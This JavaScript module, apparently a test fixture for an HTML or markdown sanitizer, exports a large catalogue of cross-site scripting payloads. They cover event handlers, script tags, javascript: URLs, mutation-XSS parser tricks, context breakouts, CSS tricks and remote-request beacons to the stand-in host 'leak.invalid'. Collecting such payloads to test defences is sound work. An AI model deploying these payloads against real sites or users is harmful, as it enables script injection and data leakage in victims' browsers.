// What strangers write to run their script in somebody else's browser, or to have it ask a server of theirs: families that are
// known, crossed where they can be. Whatever runs would call alert, or ask LEAK for something.

export const LEAK = "leak.invalid";

const RUN = "alert(1)";
const AT = `https://${LEAK}`;

const EVENTS = [
  ["img src=x", "onerror"], ["img src=x", "onload"], ["svg", "onload"], ["body", "onload"], ["body", "onpageshow"], ["video src=x", "onerror"],
  ["audio src=x", "onerror"], ["video", "oncanplay"], ["input autofocus", "onfocus"], ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"], ["a href=# autofocus", "onfocus"], ["details open", "ontoggle"], ["marquee", "onstart"], ["marquee", "onfinish"],
  ["div contenteditable autofocus tabindex=1", "onfocus"], ["p", "onmouseover"], ["p", "onpointerenter"], ["p", "onclick"], ["p style=animation-name:x", "onanimationstart"],
  ["p", "onwebkitanimationend"], ["p", "ontransitionend"], ["p", "oncopy"], ["p", "oncontextmenu"], ["p", "onauxclick"], ["p", "onwheel"], ["p", "onbeforetoggle popover"],
  ["object data=x", "onerror"], ["embed src=x", "onload"], ["iframe src=x", "onload"], ["form", "onsubmit"], ["input type=image src=x", "onerror"], ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"], ["style", "onload"], ["track src=x default", "onerror"], ["source src=x", "onerror"], ["picture><img src=x", "onerror"], ["xss tabindex=1 autofocus", "onfocus"],
  ["math href=#", "onclick"], ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><animate attributeName=x dur=1s", "onend"], ["svg><set attributeName=x", "onbegin"], ["svg><image href=x", "onerror"],
  ["svg><use href=x", "onload"], ["dialog open", "oncancel"], ["keygen autofocus", "onfocus"], ["meter", "onmouseover"], ["isindex type=image src=1", "onerror"],
].map(([tag, event]) => `<${tag} ${event}=${RUN}>words`);

const QUOTED_EVENTS = [
  `<img src=x onerror="${RUN}">`, `<img src=x onerror='${RUN}'>`, `<img/src=x/onerror=${RUN}>`, `<img\nsrc=x\nonerror\n=\n"${RUN}">`, `<img\tsrc=x\tonerror\t=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`, `<iMg SrC=x oNeRrOr=${RUN}>`, `<img src=x onerror=&#97;lert(1)>`, `<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>`, `<img src=x onerror="\\u0061lert(1)">`,
  `<img src=x onerror=alert\`1\`>`, `<img src=x onerror="window['al'+'ert'](1)">`, `<img src=x onerror=eval(atob('YWxlcnQoMSk='))>`, `<img src=x onerror="throw onerror=alert,1">`, `<img src=x:x onerror=${RUN}//`,
  `<img """><img src=x onerror=${RUN}>`, `<<img src=x onerror=${RUN}>`, `<img src=x onerror=${RUN} <p>`, `<img src="x\` \`<script>${RUN}</script>"\` \`>`, `<img src=x title="a > b" onerror=${RUN}>`,
  `<img src=x on\u0000error=${RUN}>`, `<img\u000csrc=x\u000conerror=${RUN}>`, `<svg/onload=${RUN}>`, `<svg onload=${RUN}//`, `<svg\u000bonload=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script>${RUN}//`, `<script >${RUN}</script >`, `<script\n>${RUN}</script\n>`,
  `<script/src=${AT}/x.js></script>`, `<script src=//${LEAK}/x.js></script>`, `<script src=data:text/javascript,${RUN}></script>`, `<script type=module>${RUN}</script>`,
  `<script type=text/vbscript>${RUN}</script>`, `<script>/*</script>*/${RUN}</script>`, `<script><!--\n${RUN}//--></script>`, `<script>\u2028${RUN}</script>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`, `<svg><script xlink:href=data:,${RUN}></script></svg>`, `<math><script>${RUN}</script></math>`, `<script x>${RUN}</script y>`, `<script>${RUN}</script`,
  `<object><script>${RUN}</script></object>`, `<template><script>${RUN}</script></template>`, `<xml><script>${RUN}</script></xml>`, `<%<!--'%><script>${RUN}</script -->`, `<script ~~~>${RUN}</script ~~~>`,
];

const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `java&#9;script:${RUN}`, `java&NewLine;script:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`, `&#0000106avascript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `javascript://%0a${RUN}`, `javascript:%61lert(1)`, `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`, `livescript:${RUN}`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`, `javascript\u200b:${RUN}`, `jav\u0000ascript:${RUN}`,
];

const LINKS = ADDRESSES.flatMap((address) => [
  `[words](${address})`, `[words](<${address}>)`, `<a href="${address}">words</a>`, `[words][1]\n\n[1]: ${address}`, `<${address}>`,
]);

const PLACES_OF_ADDRESSES = [
  `![words](javascript:${RUN})`, `![words](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`, `<img src="javascript:${RUN}">`, `<img srcset="javascript:${RUN} 1x">`, `<form action="javascript:${RUN}"><input type=submit>`,
  `<form><button formaction="javascript:${RUN}">words</button></form>`, `<form><input type=image formaction="javascript:${RUN}"></form>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`, `<embed src="javascript:${RUN}">`, `<object data="javascript:${RUN}"></object>`, `<object><param name=src value="javascript:${RUN}"></object>`, `<frameset><frame src="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>words</text></a></svg>`, `<svg><a href="javascript:${RUN}"><text y=20>words</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text y=20>words</text></a></svg>`, `<svg><a><animate attributeName=href to=javascript:${RUN} /><text y=20>words</text></a></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">words</maction></math>`, `<math href="javascript:${RUN}">words</math>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`, `<bgsound src="javascript:${RUN}">`, `<table background="javascript:${RUN}"><tr><td>words</table>`, `<input type=image src="javascript:${RUN}">`, `<video poster="javascript:${RUN}"></video>`,
  `<portal src="javascript:${RUN}">`, `<applet code="javascript:${RUN}">`, `<isindex action="javascript:${RUN}" type=image>`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<svg><p><style><a title="</style><img src onerror=${RUN}>">`,
  `<math></p><style><!--</style><img src/onerror=${RUN}>--></style></math>`, `<svg></br><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><math><mi//xlink:href="data:x,<script>${RUN}</script>">`, `<table><caption><svg><title><table><caption></caption></table><img src=x onerror=${RUN}></title></svg>`, `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`, `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`, `<xmp><a title="</xmp><img src=x onerror=${RUN}>">`, `<iframe><a title="</iframe><img src=x onerror=${RUN}>">`,
  `<noembed><a title="</noembed><img src=x onerror=${RUN}>">`, `<noframes><a title="</noframes><img src=x onerror=${RUN}>">`, `<plaintext><img src=x onerror=${RUN}>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<!--><img src=x onerror=${RUN}>-->`, `<!--!><img src=x onerror=${RUN}>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<![CDATA[><img src=x onerror=${RUN}>]]>`, `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`, `<?xml ?><img src=x onerror=${RUN}>`,
  `<a href="x\`><img src=x onerror=${RUN}>">words</a>`, `<p id="x&quot;><img src=x onerror=${RUN}>">words</p>`, `<details><summary><svg><style><img src=x onerror=${RUN}></style></svg></summary></details>`,
];

const WAYS_OUT = [
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `\` onmouseover=\`${RUN}`, `" autofocus onfocus="${RUN}`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</option></select><img src=x onerror=${RUN}>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `";${RUN};//`, `';${RUN};//`,
  `\\";${RUN};//`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{{=<% ${RUN} %>=}}`, `"}]}</script><script>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}%253C/script%253E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `＜script＞${RUN}＜/script＞`,
  `<scr\u200bipt>${RUN}</script>`, `\u202e<script>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `<\u0000script>${RUN}</script>`, `\r\n\r\n<script>${RUN}</script>`, `x\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
];

const STYLES = [
  `<p style="background:url(${AT}/a)">words</p>`, `<p style="background:url(javascript:${RUN})">words</p>`, `<p style="width:expression(${RUN})">words</p>`, `<p style="-moz-binding:url(${AT}/b)">words</p>`, `<p style="behavior:url(${AT}/c)">words</p>`,
  `<style>@import '${AT}/d';</style>`, `<style>*{background:url(${AT}/e)}</style>`, `<style>@font-face{font-family:x;src:url(${AT}/f)}*{font-family:x}</style>`, `<svg><style>*{background:url(${AT}/g)}</style></svg>`, `<link rel=stylesheet href=${AT}/h>`,
  `<style>li{list-style:url("javascript:${RUN}")}</style><ul><li>words</ul>`, `<p style="position:fixed;inset:0;z-index:9999">words</p>`, `<div style="list-style:url(${AT}/i)">words</div>`, `<p style="\\62 ackground:url(${AT}/j)">words</p>`, `<p style="content:image-set('${AT}/k' 1x)">words</p>`,
];

const REQUESTS = [
  `<img src=${AT}/1>`, `![words](${AT}/2)`, `![words](//${LEAK}/3)`, `<img srcset="${AT}/4 1x">`, `<picture><source srcset=${AT}/5><img></picture>`, `<video src=${AT}/6 autoplay></video>`, `<video poster=${AT}/7></video>`, `<audio src=${AT}/8 autoplay></audio>`,
  `<embed src=${AT}/9>`, `<object data=${AT}/10></object>`, `<iframe src=${AT}/11></iframe>`, `<link rel=prefetch href=${AT}/12>`, `<link rel=preload as=image href=${AT}/13>`, `<link rel=dns-prefetch href=//${LEAK}>`, `<link rel=preconnect href=${AT}>`,
  `<meta http-equiv=refresh content="0;url=${AT}/14">`, `<base href=${AT}/>`, `<body background=${AT}/15>`, `<table background=${AT}/16><tr><td>words</table>`, `<input type=image src=${AT}/17>`, `<svg><image href=${AT}/18 /></svg>`, `<svg><use href=${AT}/19#x /></svg>`,
  `<svg><feImage href=${AT}/20 /></svg>`, `<track src=${AT}/21>`, `<bgsound src=${AT}/22>`, `<script src=${AT}/23></script>`, `<link rel=icon href=${AT}/24>`, `<link rel=manifest href=${AT}/25>`, `<frameset><frame src=${AT}/26></frameset>`, `<img src="https:${LEAK}/27">`,
  `<img src="/\\${LEAK}/28">`, `![words][2]\n\n[2]: ${AT}/29`, `<img lowsrc=${AT}/30 dynsrc=${AT}/31>`, `<image src=${AT}/32>`, `<html manifest=${AT}/33>`,
];

const MARKDOWN = [
  `[words](x "onmouseover=${RUN} ")`, `[words](x '"><img src=x onerror=${RUN}>')`, `![x" onerror="${RUN}](x)`, `![x](x"onerror="${RUN})`, `[<img src=x onerror=${RUN}>](x)`, `[![x](x "<img src=x onerror=${RUN}>")](x)`, "```\"><img src=x onerror=" + RUN + ">\nwords\n```",
  "```x onload=" + RUN + "\nwords\n```", "`</code><script>" + RUN + "</script>`", `| a |\n|---|\n| <img src=x onerror=${RUN}> |`, `[^1]\n\n[^1]: <script>${RUN}</script>`, `[^"><img src=x onerror=${RUN}>]`, `# <svg onload=${RUN}>`, `> <svg onload=${RUN}>`, `- [ ] <svg onload=${RUN}>`,
  `~~<svg onload=${RUN}>~~`, `**<svg onload=${RUN}>**`, `@<svg onload=${RUN}>`, `@"onmouseover=${RUN}`, `https://${LEAK}/"onmouseover="${RUN}`, `www.${LEAK}/'onclick='${RUN}`, `<https://x"onclick="${RUN}>`, `mailto:x"onclick="${RUN}@example.com`, `[words](\\javascript:${RUN})`,
  `[words](javascript&#58;${RUN})`, `[words]( javascript:${RUN})`, `[a]: javascript:${RUN}\n[a]`, `[words](vbscript:x)`, `[words](/x%22onclick=%22${RUN})`, `<div>\n\n<script>${RUN}</script>\n\n</div>`, `    <script>${RUN}</script>`, `\\<script>${RUN}\\</script>`, `<!-- -->\n<script>${RUN}</script>`,
  `[[x|<img src=x onerror=${RUN}>]]`, `:<img src=x onerror=${RUN}>:`, `$$<img src=x onerror=${RUN}>$$`, `|| <img src=x onerror=${RUN}> ||`, `<!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`,
];

const FAMILIES = { EVENTS, QUOTED_EVENTS, SCRIPTS, LINKS, PLACES_OF_ADDRESSES, MUTATIONS, WAYS_OUT, STYLES, REQUESTS, MARKDOWN };

/** All of them, in no order that matters. */
export const PAYLOADS = Object.values(FAMILIES).flat();

/** The first of every family. */
export const SOME = Object.values(FAMILIES).map(([first]) => first);
